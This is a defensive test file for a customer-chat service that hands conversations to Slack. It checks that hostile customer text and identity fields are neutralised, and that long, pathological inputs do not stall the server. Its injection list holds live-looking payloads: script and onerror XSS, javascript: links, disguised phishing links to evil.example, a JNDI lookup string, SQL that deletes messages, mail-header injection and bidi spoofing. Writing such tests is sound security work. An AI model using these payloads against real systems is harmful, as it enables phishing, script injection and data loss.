// What customers write to harm: no text pings, links, formats, hides or runs anything, in Slack or in the chat; none stalls the server.
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { newVisitor, openConversation, post, readActivities, siteJwt, startChat } from '../channels/web/requests.ts'
import type { SlackMessage } from '../support/agent.ts'
import { missingPeer } from '../support/slack/workspace.ts'
import { API_KEY } from '../support/world.ts'
import { type Attacked, type Chat, isUp, say, startAttacked } from './world.ts'

const injections: [string, string][] = [
  ['a ping of the channel', '<!channel> look'],
  ['a ping of all who are here', '<!here|here> look'],
  ['a ping of everybody', '<!everyone> @everyone @channel @here'],
  ['a mention of an agent', 'hey <@U000000001> and <@UBOB|bob>'],
  ['a mention of a group', '<!subteam^S123|@support>'],
  ['a link of Slack', 'see <https://evil.example|https://bank.example>'],
  ['a link of Markdown', 'see [our bank](https://evil.example/login)'],
  ['a link that runs', '[click](javascript:alert(1)) <javascript:alert(1)|x>'],
  ['a script', '<script>alert(document.cookie)</script>'],
  ['a picture that runs', '<img src=x onerror="alert(1)">'],
  ['a picture of Markdown that reports who reads', '![x](https://evil.example/pixel.png)'],
  ['a frame', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['text turned around', 'invoice\u202efdp.exe\u2066x\u2069\u200f'],
  ['control characters', 'bell\u0007 escape\u001b[31m null\u0000 back\b delete\u007f'],
  ['half surrogates', 'x\ud800y\udc00z'],
  ['line separators', 'one\u2028two\u2029three\u0085four'],
  ['code fences', '```\n</pre><b>\n``` `x` *bold* _it_ ~s~'],
  ['entities', '&lt;!channel&gt; &#60;!channel&#62; &amp;lt;'],
  ['a date of Slack', '<!date^1392734382^{date}|https://evil.example>'],
  ['JSON that would end a block', '"}]},{"type":"section","text":{"type":"mrkdwn","text":"<!channel>"}}'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
  ['a template', '{{constructor.constructor("alert(1)")()}} ${7*7} #{7*7} <%= 7*7 %>'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: that is the attack
  ['a format for a log', '%s%s%n %d ${jndi:ldap://evil.example/a}'],
  ['SQL', `'); DELETE FROM messages; --`],
  ['a mail header', 'x\r\nBcc: all@example.com\r\n\r\nbody'],
  ['stacked accents', `Z${'\u0300'.repeat(500)}algo`],
  ['emoji of many parts', '👨‍👩‍👧‍👦'.repeat(200)],
]

// biome-ignore lint/suspicious/noControlCharactersInRegex: those are what must not be there
const HIDDEN = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]/

/** The one piece of Slack's own markup that our cards have: a time in the reader's zone. */
const OUR_TIME = /<!date\^\d+\^\{date_short_pretty\} \{time\}\|[\d :UTC-]+>/g

/** Nothing that Slack stored pings, links to where a customer wants, or hides what it says. */
function expectDisarmed(stored: unknown): void {
  const plain: string[] = []
  const parsed: string[] = []
  const walk = (value: unknown, isPlain = false): void => {
    if (typeof value === 'string') (isPlain ? plain : parsed).push(value)
    else if (Array.isArray(value)) for (const item of value) walk(item)
    else if (value && typeof value === 'object') {
      // Slack shows plain_text and the text of a rich_text as they are; all other texts are read for pings and links.
      const literal = 'type' in value && (value.type === 'plain_text' || value.type === 'text')
      for (const inner of Object.values(value)) walk(inner, literal)
    }
  }
  walk(stored)
  expect(parsed.length).toBeGreaterThan(0)
  for (const text of parsed.map((found) => found.replace(OUR_TIME, ''))) {
    expect(text).not.toMatch(/@(everyone|channel|here)\b/i)
    expect(text).not.toMatch(/<!|<@U000000001|<@UBOB|<#C/)
    expect(text).not.toMatch(/<(https?:\/\/evil|javascript:)/i)
    expect(text).not.toMatch(/<(script|img|iframe)/i)
  }
  for (const text of [...parsed, ...plain]) {
    expect(text).not.toMatch(HIDDEN)
    expect(text.isWellFormed()).toBe(true)
  }
}

describe.skipIf(missingPeer)(`hostile texts${missingPeer ? ` (${missingPeer})` : ''}`, () => {
  let attacked: Attacked
  beforeAll(async () => {
    attacked = await startAttacked()
  })
  afterAll(() => attacked?.close())

  const threadOf = async (conversationId: string): Promise<SlackMessage[]> => {
    const [row] = await attacked.world.query<{ desk_thread: string }>(
      `SELECT desk_thread FROM cases k JOIN conversations c ON c.id = k.conversation_id WHERE c.thread_id = $1 AND desk_thread IS NOT NULL`,
      [conversationId],
    )
    const [channel, ts] = row!.desk_thread.split(':') as [string, string]
    const { messages } = await attacked.world.slack.as('bot').conversations.replies({ channel, ts, limit: 200 })
    return messages as SlackMessage[]
  }
  const handOff = async (chat: Chat) => {
    expect((await say(attacked.url, chat, 'Can I talk to a human please?')).status).toBe(200)
    await attacked.world.settled()
  }

  describe('a customer writes', () => {
    test.each(injections)('%s', async (_what, text) => {
      const chat = await startChat(attacked.url)
      // Before the hand-over it is on the card, after it in the thread.
      expect((await say(attacked.url, chat, text)).status).toBe(200)
      await handOff(chat)
      expect((await say(attacked.url, chat, `${text} again`)).status).toBe(200)
      await attacked.world.settled()

      const thread = await threadOf(chat.conversationId)
      expect(thread.length).toBeGreaterThan(1)
      expectDisarmed(thread)
      const { activities } = await readActivities(attacked.url, chat)
      for (const activity of activities) {
        // The customer's own words come back to them alone, marked as plain text for the client to show as letters.
        if (activity.from.role === 'user') expect(activity).toMatchObject({ textFormat: 'plain' })
        else expect(activity.text).not.toMatch(/<(script|img|iframe)|evil\.example|javascript:|onerror|<!channel/i)
        expect(activity.text!.isWellFormed()).toBe(true)
      }
      await isUp(attacked)
    })
  })

  describe('somebody is called', () => {
    test.each(injections)('%s', async (what, name) => {
      const identity = await siteJwt({
        sub: `u <!channel> ${what}`,
        name: `Eve ${name}`,
        email: '<!channel>@evil.example',
      })
      const { token } = await newVisitor(attacked.url, { identity })
      const started = await openConversation(attacked.url, token)
      const chat = { ...started, userId: '', path: `/v3/directline/conversations/${started.conversationId}` }
      expect((await say(attacked.url, chat, 'hello', { locale: '<!channel>' })).status).toBe(200)
      await handOff(chat)
      expectDisarmed(await threadOf(chat.conversationId))
      const { activities } = await readActivities(attacked.url, chat)
      const said = activities.filter(({ from }) => from.role === 'bot').map(({ text }) => text)
      expect(said.join('\n')).not.toMatch(/<(script|img|iframe)|evil\.example|javascript:|onerror|<!|\]\(/i)
      expect(said.join('\n')).not.toMatch(HIDDEN)
      await isUp(attacked)
    })
  })

  test.each(injections)('somebody introduces themselves as %s', async (_what, name) => {
    const chat = await startChat(attacked.url)
    for (const text of [`my name is ${name}`, `please call me ${name}`]) {
      expect((await say(attacked.url, chat, text)).status).toBe(200)
      await attacked.world.settled()
    }
    const { activities } = await readActivities(attacked.url, chat)
    const said = activities.filter(({ from }) => from.role === 'bot').map(({ text }) => text)
    expect(said.join('\n')).not.toMatch(/<(script|img|iframe)|evil\.example|javascript:|onerror|<!|\]\(|\$\{/i)
    expect(said.join('\n')).not.toMatch(HIDDEN)
    await isUp(attacked)
  })

  describe('no text stalls the server', () => {
    const long = (unit: string, length = 8_000) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length)
    test.each([
      ['one letter', long('a')],
      ['spaces between two words', `a${long(' ', 7_990)}b`],
      ['line ends', `a${long('\n', 7_990)}b`],
      ['dots', long('.')],
      ['question marks', long('?')],
      ['exclamation', long('WHY!!! ')],
      ['open brackets', long('(')],
      ['open links', long('[a](')],
      ['stars', long('*a ')],
      ['backticks', long('`')],
      ['at signs', long('a@')],
      ['digits and hyphens', long('1-')],
      ['the start of a name again and again', long('my name is ')],
      ['"this is" again and again', long('this is Dr. ')],
      ['"call me" again and again', long('call me ')],
      ['"I want to talk to" again and again', long('I want to talk to a ')],
      ['negations', long('not ')],
      ['commas', long('a, ')],
      ['capitals', long('A B ')],
      ['quotes', long('>')],
      ['hyphens', long('-')],
      ['CJK without a space', long('配送はいつですか')],
      ['emoji', long('😀')],
      ['accents', long('e\u0301')],
      ['apostrophes', long("O'")],
      ['URLs', long('http://a.b/c?d=e&')],
      ['an entity that never ends', long('&amp')],
      ['almost a hand-over', `${long('can i speak ', 7_900)}x`],
    ])('%s', async (_what, text) => {
      const chat = await startChat(attacked.url)
      expect((await say(attacked.url, chat, text)).status).toBe(200)
      await attacked.world.settled()
      const ask = (path: string, body: object) => post(attacked.url, `/api/v1${path}`, body, API_KEY)
      expect((await ask('/ask', { question: text.slice(0, 1_999) })).status).toBeLessThan(500)
      expect(
        (
          await ask('/drafts/check', {
            text: `${text}${text}`.slice(0, 19_999),
            contact: { given: 'Anna', family: 'Jackson' },
          })
        ).status,
      ).toBe(200)
      expect((await ask('/assess', { text: `${text}${text}`.slice(0, 19_999) })).status).toBe(200)
      // No bound in seconds: a pattern that explodes takes minutes, which is over the time a test has.
      await isUp(attacked)
    })
  })
})
